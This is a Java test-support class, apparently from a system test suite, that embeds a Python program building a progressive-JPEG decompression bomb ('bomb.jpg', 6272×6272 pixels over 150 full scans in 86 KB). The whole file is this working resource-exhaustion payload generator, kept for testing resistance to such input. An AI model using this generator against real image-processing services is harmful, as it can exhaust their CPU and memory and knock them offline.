package dev.podshell.systemtests.attack;

/**
 * Holds a program that writes {@code bomb.jpg}: 86 KB of progressive JPEG with 6272 × 6272 pixels
 * in 150 scans, each of which passes over all pixels.
 */
final class ProgressiveImage {

  static final String PROGRAM =
      """
      import struct

      def segment(marker, content):
          return bytes((0xFF, marker)) + struct.pack(">H", len(content) + 2) + content

      side = 6272
      blocks = (side // 8) ** 2
      image = b"\\xff\\xd8"
      image += segment(0xDB, b"\\0" + b"\\1" * 64)
      image += segment(0xC2, struct.pack(">BHHB", 8, side, side, 1) + b"\\1\\x11\\0")
      # One code of one bit each: no difference, and an end of band for up to 32,767 blocks.
      image += segment(0xC4, b"\\0\\1" + b"\\0" * 15 + b"\\0")
      image += segment(0xC4, b"\\x10\\1" + b"\\0" * 15 + b"\\xe0")
      image += segment(0xDA, b"\\1\\1\\0\\0\\0\\0") + b"\\0" * (blocks // 8)
      bits = "0" + "1" * 13 + "0"
      bits = bits * (blocks // 32766 + 1)
      bits += "1" * (-len(bits) % 8)
      scan = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)).replace(b"\\xff", b"\\xff\\0")
      for _ in range(150):
          image += segment(0xDA, b"\\1\\1\\0\\1\\x3f\\0") + scan
      image += b"\\xff\\xd9"
      open("bomb.jpg", "wb").write(image)
      print(len(image))
      """;

  private ProgressiveImage() {}
}
